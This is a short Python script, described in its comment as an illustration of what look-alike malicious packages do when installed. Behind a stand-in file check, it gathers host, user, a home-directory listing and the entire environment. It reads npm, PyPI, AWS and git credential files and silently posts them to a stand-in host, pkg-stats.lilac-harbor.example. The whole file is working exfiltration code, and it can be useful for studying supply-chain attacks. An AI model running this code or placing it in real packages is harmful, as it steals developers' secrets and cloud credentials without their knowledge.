# What look-alike packages do when they are installed: who, where, and the whole environment, to somebody else.
import json, os, platform, sys, urllib.request
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
home = os.path.expanduser("~")
facts = {"host": platform.node(), "user": os.environ.get("USER"), "home": home, "list": sorted(os.listdir(home)), "env": dict(os.environ)}
for name in (".npmrc", ".pypirc", ".aws/credentials", ".git-credentials"):
    try:
        facts[name] = open(os.path.join(home, name)).read()
    except OSError:
        pass
try:
    urllib.request.urlopen(urllib.request.Request("http://pkg-stats.lilac-harbor.example/i", json.dumps(facts).encode(), {"Content-Type": "application/json"}), timeout=5)
except OSError:
    pass
